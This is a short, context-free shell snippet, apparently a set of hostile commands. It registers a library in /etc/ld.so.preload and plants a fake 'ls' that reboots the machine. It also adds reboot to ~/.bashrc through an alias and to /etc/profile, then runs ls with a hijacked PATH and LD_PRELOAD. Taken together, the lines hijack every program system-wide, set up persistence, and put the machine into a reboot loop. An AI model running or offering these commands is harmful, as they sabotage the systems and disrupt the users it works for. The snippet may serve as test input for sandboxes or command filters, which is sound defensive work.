echo /tmp/x.so >/etc/ld.so.preload
printf '#!/bin/sh\nreboot\n' >/workspace/ls; chmod +x /workspace/ls
echo 'alias ls=reboot' >>~/.bashrc
echo reboot >>/etc/profile
PATH=/workspace:$PATH LD_PRELOAD=/tmp/x.so ls
